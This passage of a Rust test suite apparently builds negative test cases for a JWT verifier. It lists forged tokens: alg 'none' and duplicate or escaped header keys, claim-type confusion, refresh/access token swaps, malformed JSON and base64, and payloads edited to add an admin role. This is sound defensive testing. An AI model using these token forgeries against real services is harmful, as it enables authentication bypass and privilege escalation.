        "exp u64::MAX",
        at(c.claims().set("exp", u64::MAX.to_string())),
        any(),
    );
    t.refuse(
        "iat 0, exp in the future",
        at(c.claims().set("iat", "0")),
        any(),
    );
    // Missing, and every wrong type.
    t.refuse("missing exp", at(c.claims().without("exp")), any());
    t.refuse("missing iat", at(c.claims().without("iat")), any());
    let exp = now + TTL;
    for (name, value) in [
        ("exp as a string", s(&exp.to_string())),
        ("exp as a float", format!("{exp}.0")),
        ("exp with a fraction", format!("{exp}.5")),
        ("exp with an exponent", format!("{}e3", exp / 1000)),
        ("exp negative", "-1".to_owned()),
        ("exp 2^64", "18446744073709551616".to_owned()),
        ("exp 1e400", "1e400".to_owned()),
        ("exp null", "null".to_owned()),
        ("exp true", "true".to_owned()),
        ("exp an array", format!("[{exp}]")),
    ] {
        t.refuse(name, at(c.claims().set("exp", value)), any());
    }
    for (name, claim, value) in [
        ("nbf as a string", "nbf", s(&now.to_string())),
        ("nbf negative", "nbf", "-1".to_owned()),
        ("nbf as a float", "nbf", format!("{now}.5")),
        ("iat as a string", "iat", s(&now.to_string())),
        ("iat negative", "iat", "-1".to_owned()),
        ("iat as a float", "iat", format!("{now}.0")),
    ] {
        t.refuse(name, at(c.claims().set(claim, value)), any());
    }
    t.rows
}

/// `iss` and `aud` that are not exactly ours.
pub fn issuer_and_audience(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("iss and aud");
    let at = |claims: Obj| c.token(&c.header(), &claims);
    let (iss, aud) = (c.issuer.clone(), c.audience.clone());
    for value in [
        "https://evil.example.com".to_owned(),
        iss.to_uppercase(),
        iss.replacen("auth", "Auth", 1),
        format!("{iss}/"),
        format!(" {iss}"),
        format!("{iss}\u{0}"),
        aud.clone(),
        String::new(),
    ] {
        assert_ne!(value, iss);
        t.refuse(
            format!("iss {value:?}"),
            at(c.claims().set("iss", s(&value))),
            invalid(Claim::Iss),
        );
    }
    for value in [
        "https://billing.example.com".to_owned(),
        aud.to_uppercase(),
        aud.replacen("api", "API", 1),
        format!("{aud}/"),
        format!("{aud} "),
        iss.clone(),
        String::new(),
    ] {
        assert_ne!(value, aud);
        t.refuse(
            format!("aud {value:?}"),
            at(c.claims().set("aud", s(&value))),
            invalid(Claim::Aud),
        );
    }
    for (claim, value) in [
        ("iss", format!("[{}]", s(&iss))),
        ("iss", "null".to_owned()),
        ("iss", "7".to_owned()),
        ("aud", format!("[{}]", s(&aud))),
        (
            "aud",
            format!("[{},\"https://billing.example.com\"]", s(&aud)),
        ),
        (
            "aud",
            format!("[\"https://billing.example.com\",{}]", s(&aud)),
        ),
        ("aud", "[]".to_owned()),
        ("aud", "null".to_owned()),
        ("aud", format!("{{\"aud\":{}}}", s(&aud))),
    ] {
        t.refuse(
            format!("{claim} {value}"),
            at(c.claims().set(claim, value.as_str())),
            any(),
        );
    }
    t.refuse("missing iss", at(c.claims().without("iss")), any());
    t.refuse("missing aud", at(c.claims().without("aud")), any());
    t.rows
}

/// Refresh tokens (and other kinds) presented as access tokens.
pub fn token_use_confusion(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("token use");
    let wrong_use = || vec![TokenError::WrongTokenUse { expected: "access" }];
    let refresh_header = c.header_with_kid(&s(&c.refresh_kid));
    t.refuse(
        "a refresh token, as issued",
        sign_input(
            &c.input(&refresh_header, &c.refresh_claims(c.now + 7 * 86400)),
            &c.refresh_secret,
        ),
        vec![TokenError::UnknownKey],
    );
    t.refuse(
        "a refresh token relabelled with the access kid",
        sign_input(
            &c.input(&c.header(), &c.refresh_claims(c.now + 7 * 86400)),
            &c.refresh_secret,
        ),
        vec![TokenError::BadSignature],
    );
    t.refuse(
        "refresh claims signed by the access key",
        c.token(&c.header(), &c.refresh_claims(c.now + TTL)),
        wrong_use(),
    );
    for value in [
        s("refresh"),
        s("Access"),
        s("ACCESS"),
        s("access "),
        s("id"),
        s(""),
    ] {
        t.refuse(
            format!("token_use {value}"),
            c.token(&c.header(), &c.claims().set("token_use", value.as_str())),
            wrong_use(),
        );
    }
    t.refuse(
        "missing token_use",
        c.token(&c.header(), &c.claims().without("token_use")),
        wrong_use(),
    );
    for value in ["null", r#"["access"]"#, "1", r#"{"use":"access"}"#] {
        t.refuse(
            format!("token_use {value}"),
            c.token(&c.header(), &c.claims().set("token_use", value)),
            vec![
                TokenError::WrongTokenUse { expected: "access" },
                TokenError::Malformed,
            ],
        );
    }
    t.rows
}

/// Access tokens (and other kinds) presented to the refresh verifier; not
/// part of [`all`], which is for access verifiers.
pub fn access_as_refresh(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("access as refresh");
    let header = c.header_with_kid(&s(&c.refresh_kid));
    let refresh = |claims: &Obj| sign_input(&c.input(&header, claims), &c.refresh_secret);
    let exp = c.now + 86400;
    let wrong_use = || {
        vec![TokenError::WrongTokenUse {
            expected: "refresh",
        }]
    };
    t.accept(
        "control: refresh claims, hand-signed",
        refresh(&c.refresh_claims(exp)),
    );
    t.refuse(
        "an access token, as issued",
        c.valid(),
        vec![TokenError::UnknownKey],
    );
    t.refuse(
        "an access token relabelled with the refresh kid",
        c.token(&header, &c.claims()),
        vec![TokenError::BadSignature],
    );
    t.refuse(
        "access claims signed by the refresh key",
        refresh(&c.claims()),
        wrong_use(),
    );
    for value in [s("access"), s("Refresh"), s("REFRESH"), s("")] {
        t.refuse(
            format!("token_use {value}"),
            refresh(&c.refresh_claims(exp).set("token_use", value.as_str())),
            wrong_use(),
        );
    }
    t.refuse(
        "missing token_use",
        refresh(&c.refresh_claims(exp).without("token_use")),
        wrong_use(),
    );
    t.refuse(
        "missing sid",
        refresh(&c.refresh_claims(exp).without("sid")),
        any(),
    );
    t.refuse(
        "jti not sid.gen",
        refresh(&c.refresh_claims(exp).set("jti", s("s1.2"))),
        any(),
    );
    t.rows
}

/// `sub`, `roles` and `jti` of the wrong shape.
pub fn claim_shapes(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("claim shapes");
    let at = |claims: Obj| c.token(&c.header(), &claims);
    t.accept("control: roles []", at(c.claims().set("roles", "[]")));
    t.refuse(
        "sub empty",
        at(c.claims().set("sub", s(""))),
        invalid(Claim::Sub),
    );
    for value in ["123", "null", "true", r#"["u1"]"#, r#"{"id":"u1"}"#] {
        t.refuse(
            format!("sub {value}"),
            at(c.claims().set("sub", value)),
            any(),
        );
    }
    t.refuse("missing sub", at(c.claims().without("sub")), any());
    for value in [
        r#"[""]"#,
        r#"["a,admin"]"#,
        r#"["ad min"]"#,
        r#"["admin\t"]"#,
    ] {
        t.refuse(
            format!("roles {value}"),
            at(c.claims().set("roles", value)),
            invalid(Claim::Roles),
        );
    }
    for value in [
        r#""admin""#,
        r#""user,admin""#,
        "[1]",
        "[null]",
        r#"[["admin"]]"#,
        r#"[{"role":"admin"}]"#,
        r#"{"0":"admin"}"#,
        "true",
        "null",
    ] {
        t.refuse(
            format!("roles {value}"),
            at(c.claims().set("roles", value)),
            any(),
        );
    }
    t.refuse("missing roles", at(c.claims().without("roles")), any());
    t.refuse(
        "jti empty",
        at(c.claims().set("jti", s(""))),
        invalid(Claim::Jti),
    );
    t.refuse("jti 7", at(c.claims().set("jti", "7")), any());
    t.refuse("missing jti", at(c.claims().without("jti")), any());
    t.rows
}

/// Repeated member names: refused, whichever value comes first (policy in the
/// module comment).
pub fn duplicate_keys(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("duplicate keys");
    let at = |claims: Obj| c.token(&c.header(), &claims);
    let later = (c.now + TTL - 60).to_string();
    let payload = [
        ("sub", s("admin"), "sub twice, ours first"),
        ("sub", s("u1"), "sub twice, same value"),
        ("roles", r#"["admin"]"#.to_owned(), "roles twice"),
        ("exp", later, "exp twice"),
        ("token_use", s("refresh"), "token_use twice, ours first"),
        ("iss", s("https://evil.example.com"), "iss twice"),
        ("s\\u0075b", s("admin"), "sub twice, the second escaped"),
    ];
    for (key, value, name) in payload {
        t.refuse(name, at(c.claims().push(key, value)), any());
    }
    // The same, with the attacker's value first.
    let base = c.claims();
    t.refuse(
        "sub twice, ours last",
        at(Obj::default().push("sub", s("admin")).push_all(&base)),
        any(),
    );
    t.refuse(
        "token_use twice, ours last",
        at(Obj::default()
            .push("token_use", s("refresh"))
            .push_all(&base)),
        any(),
    );
    t.refuse(
        "exp twice, the expired one first",
        at(Obj::default().push("exp", "1").push_all(&base)),
        any(),
    );
    // In the header.
    let header = |members: Obj| c.token(&members, &c.claims());
    t.refuse(
        "alg twice, none first",
        header(Obj::default().push("alg", s("none")).push_all(&c.header())),
        any(),
    );
    t.refuse(
        "alg twice, none last",
        header(c.header().push("alg", s("none"))),
        any(),
    );
    t.refuse(
        "alg twice, the second escaped",
        header(c.header().push("\\u0061lg", s("none"))),
        any(),
    );
    t.refuse(
        "kid twice, an unknown one last",
        header(c.header().push("kid", s("nope"))),
        any(),
    );
    t.refuse(
        "kid twice, an unknown one first",
        header(Obj::default().push("kid", s("nope")).push_all(&c.header())),
        any(),
    );
    t.rows
}

/// Header or payload that is not one JSON object in UTF-8, correctly signed.
pub fn malformed_json(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("malformed JSON");
    let claims = c.claims().text();
    let header = c.header().text();
    let with_sub = |raw: &[u8]| -> Vec<u8> {
        let text = c.claims().set("sub", "\"SUB\"").text();
        let (before, after) = text.split_once("SUB").expect("placeholder");
        [before.as_bytes(), raw, after.as_bytes()].concat()
    };
    let bom = |json: &str| [b"\xEF\xBB\xBF".as_slice(), json.as_bytes()].concat();
    let payloads: Vec<(&str, Vec<u8>)> = vec![
        ("payload not JSON", b"hello".to_vec()),
        ("payload empty", Vec::new()),
        (
            "payload cut short",
            claims.as_bytes()[..claims.len() - 1].to_vec(),
        ),
        (
            "payload with trailing garbage",
            format!("{claims}x").into_bytes(),
        ),
        ("payload twice", format!("{claims}{claims}").into_bytes()),
        ("payload in an array", format!("[{claims}]").into_bytes()),
        ("payload null", b"null".to_vec()),
        ("payload a string", s("u1").into_bytes()),
        ("payload a number", b"1800000900".to_vec()),
        ("payload after a BOM", bom(&claims)),
        ("invalid UTF-8 in sub", with_sub(b"u\xFF1")),
        ("overlong UTF-8 in sub", with_sub(b"u\xC0\xAF1")),
        (
            "UTF-8 encoded surrogate in sub",
            with_sub(b"u\xED\xA0\x801"),
        ),
        ("lone surrogate escape in sub", with_sub(b"u\\ud8001")),
        ("raw tab inside sub", with_sub(b"u\t1")),
        (
            "single-quoted member name",
            claims.replacen("\"sub\"", "'sub'", 1).into_bytes(),
        ),
        (
            "trailing comma",
            format!("{},}}", &claims[..claims.len() - 1]).into_bytes(),
        ),
        (
            "a comment",
            format!("{{/* hi */{}", &claims[1..]).into_bytes(),
        ),
        ("NaN exp", c.claims().set("exp", "NaN").text().into_bytes()),
        (
            "Infinity exp",
            c.claims().set("exp", "Infinity").text().into_bytes(),
        ),
        (
            "hexadecimal exp",
            c.claims().set("exp", "0x6B49D3A4").text().into_bytes(),
        ),
        (
            "exp with a leading zero",
            c.claims()
                .set("exp", format!("0{}", c.now + TTL))
                .text()
                .into_bytes(),
        ),
    ];
    for (name, payload) in payloads {
        t.refuse(name, c.token_raw(header.as_bytes(), &payload), any());
    }
    let headers: Vec<(&str, Vec<u8>)> = vec![
        ("header not JSON", b"HS256".to_vec()),
        ("header after a BOM", bom(&header)),
        ("header in an array", format!("[{header}]").into_bytes()),
        ("header with invalid UTF-8", {
            let (before, after) = header.split_once("JWT").expect("typ");
            [before.as_bytes(), b"J\xFFT", after.as_bytes()].concat()
        }),
        (
            "header cut short",
            header.as_bytes()[..header.len() - 1].to_vec(),
        ),
    ];
    for (name, raw_header) in headers {
        t.refuse(name, c.token_raw(&raw_header, claims.as_bytes()), any());
    }
    t.rows
}

/// Spellings of a segment other than canonical unpadded base64url.
pub fn base64_variants(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("base64");
    let header = b64(c.header().text().as_bytes());
    let claims = c.claims_needing_padding();
    t.accept("control: canonical", c.token(&c.header(), &claims));

    let payload = claims.text();
    let canonical = b64(payload.as_bytes());
    let padded = URL_SAFE.encode(payload.as_bytes());
    assert_ne!(padded, canonical);
    t.refuse(
        "payload padded",
        sign_input(&format!("{header}.{padded}"), &c.secret),
        any(),
    );
    t.refuse(
        "payload with trailing bits set",
        sign_input(
            &format!("{header}.{}", with_trailing_bits(&canonical)),
            &c.secret,
        ),
        any(),
    );
    let spaced = format!("{} {}", &canonical[..10], &canonical[10..]);
    t.refuse(
        "payload with a space inside",
        sign_input(&format!("{header}.{spaced}"), &c.secret),
        any(),
    );
    let wrapped = format!("{}\n{}", &canonical[..10], &canonical[10..]);
    t.refuse(
        "payload with a line break inside",
        sign_input(&format!("{header}.{wrapped}"), &c.secret),
        any(),
    );
    t.refuse(
        "payload with a percent-encoded character",
        sign_input(
            &format!(
                "{header}.%{:02X}{}",
                canonical.as_bytes()[0],
                &canonical[1..]
            ),
            &c.secret,
        ),
        any(),
    );

    let valid = c.token(&c.header(), &claims);
    let (input, sig) = valid.rsplit_once('.').expect("three parts");
    t.refuse("signature padded", format!("{input}.{sig}="), any());
    t.refuse("signature padded twice", format!("{input}.{sig}=="), any());
    t.refuse(
        "signature with trailing bits set",
        format!("{input}.{}", with_trailing_bits(sig)),
        any(),
    );
    t.refuse(
        "signature with a space inside",
        format!("{input}.{} {}", &sig[..20], &sig[20..]),
        any(),
    );
    t.refuse(
        "signature with a percent-encoded padding",
        format!("{input}.{sig}%3D"),
        any(),
    );

    // The standard alphabet (`+` and `/` for `-` and `_`): find claims whose
    // payload, then whose signature, has one of the two characters.
    let standard = |text: &str| text.replace('-', "+").replace('_', "/");
    let has_url_chars = |text: &str| text.contains(['-', '_']);
    let p = c.claims_where(|tok| has_url_chars(tok.split('.').nth(1).unwrap_or("")));
    let p_text = b64(p.text().as_bytes());
    t.refuse(
        "payload in the standard alphabet",
        sign_input(&format!("{header}.{}", standard(&p_text)), &c.secret),
        any(),
    );
    let q = c.claims_where(|tok| has_url_chars(tok.rsplit('.').next().unwrap_or("")));
    let q_token = c.token(&c.header(), &q);
    let (q_input, q_sig) = q_token.rsplit_once('.').expect("three parts");
    t.refuse(
        "signature in the standard alphabet",
        format!("{q_input}.{}", standard(q_sig)),
        any(),
    );
    t.refuse(
        "standard alphabet with padding",
        format!(
            "{q_input}.{}",
            base64::engine::general_purpose::STANDARD
                .encode(URL_SAFE_NO_PAD.decode(q_sig).expect("our signature"))
        ),
        any(),
    );

    t.refuse("a line break before", format!("\n{valid}"), any());
    t.refuse("a line break after", format!("{valid}\n"), any());
    t.refuse("CRLF after", format!("{valid}\r\n"), any());
    t.refuse("a NUL after", format!("{valid}\u{0}"), any());
    t.rows
}

/// Wrong numbers of segments, empty segments, dots, and sizes.
pub fn structure(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("structure");
    let valid = c.valid();
    let (input, sig) = valid.rsplit_once('.').expect("three parts");
    let (header, payload) = input.split_once('.').expect("two parts");
    t.refuse("two segments", input.to_owned(), any());
    t.refuse("one segment", header.to_owned(), any());
    t.refuse("four segments", format!("{valid}.{sig}"), any());
    t.refuse("a trailing dot", format!("{valid}."), any());
    t.refuse("a leading dot", format!(".{valid}"), any());
    t.refuse(
        "five segments, like a JWE",
        format!("{header}.{payload}..{sig}.{sig}"),
        any(),
    );
    t.refuse(
        "empty header, signed",
        sign_input(&format!(".{payload}"), &c.secret),
        any(),
    );
    t.refuse(
        "empty payload, signed",
        sign_input(&format!("{header}."), &c.secret),
        any(),
    );
    t.refuse(
        "doubled dot between header and payload",
        sign_input(&format!("{header}..{payload}"), &c.secret),
        any(),
    );
    for junk in ["", ".", "..", "...", "a.b.c"] {
        t.refuse(format!("{junk:?}"), junk.to_owned(), any());
    }
    t.refuse("5000 dots", ".".repeat(5000), any());
    t.refuse(
        "3000 dots between payload and signature",
        format!("{input}{}{sig}", ".".repeat(3000)),
        any(),
    );
    t.refuse("3000 one-letter segments", "a.".repeat(3000), any());

    let too_large = || {
        vec![TokenError::TooLarge {
            max: MAX_TOKEN_BYTES,
        }]
    };
    let big = (5900..6300)
        .map(|n| c.token(&c.header(), &c.claims().set("sub", s(&"u".repeat(n)))))
        .find(|token| token.len() > MAX_TOKEN_BYTES)
        .expect("some subject length is just over the limit");
    t.refuse("just over the limit, signed", big, too_large());
    let mega = c.token(&c.header(), &c.claims().set("sub", s(&"u".repeat(3 << 18))));
    assert!(mega.len() >= 1 << 20);
    t.refuse("1 MiB, signed", mega, too_large());
    t.refuse("1 MiB of dots", ".".repeat(1 << 20), too_large());
    t.rows
}

/// A valid token with its payload (or header) edited and its signature kept.
pub fn payload_tampering(k: &Keys<'_>) -> Vec<Attack> {
    let c = Ctx::new(k);
    let mut t = Table::new("payload tampering");
    let valid = c.valid();
    t.accept("control: untouched", valid.clone());
    let exp = (c.now + TTL).to_string();
    let edits: [(&str, String, String); 8] = [
        (
            "roles + admin",
            r#""roles":["user"]"#.to_owned(),
            r#""roles":["user","admin"]"#.to_owned(),
        ),
        (
            "roles replaced",
            r#""roles":["user"]"#.to_owned(),
            r#""roles":["admin"]"#.to_owned(),
        ),
        (
            "another sub",
            r#""sub":"u1""#.to_owned(),
            r#""sub":"u2""#.to_owned(),
        ),
        (
            "exp a minute earlier",
            format!("\"exp\":{exp}"),
            format!("\"exp\":{}", c.now + TTL - 60),
        ),
        (
            "another jti",
            r#""jti":"j1""#.to_owned(),
            r#""jti":"j2""#.to_owned(),
        ),
        (
            "a space added",
            r#""sub":"u1""#.to_owned(),
            r#""sub": "u1""#.to_owned(),
        ),
        (
            "members reordered",
            r#""jti":"j1","sid":"s1""#.to_owned(),
            r#""sid":"s1","jti":"j1""#.to_owned(),
        ),
        (
            "an unknown claim added",
            r#""sub":"u1""#.to_owned(),
            r#""sub":"u1","email":"a@example.com""#.to_owned(),
        ),
    ];
    for (name, from, to) in edits {
        t.refuse(
            name,
            edit_segment(&valid, 1, |p| {
                assert!(p.contains(&from), "{from} not in {p}");
                p.replacen(&from, &to, 1)
            }),
            vec![TokenError::BadSignature],
        );
    }
    t.refuse(
        "exp a day later",
        edit_segment(&valid, 1, |p| {
            p.replacen(
                &format!("\"exp\":{exp}"),
                &format!("\"exp\":{}", c.now + 86400),
                1,
            )
        }),
        any(),
    );
    t.refuse(
        "header: typ removed",
        edit_segment(&valid, 0, |h| h.replacen(r#""typ":"JWT","#, "", 1)),
        vec![TokenError::BadSignature],
    );
    t.refuse(
        "header: members reordered",
        edit_segment(&valid, 0, |h| {
            h.replacen(
                r#""typ":"JWT","alg":"HS256""#,
                r#""alg":"HS256","typ":"JWT""#,
                1,
            )
        }),
        vec![TokenError::BadSignature],
    );
    t.rows
}
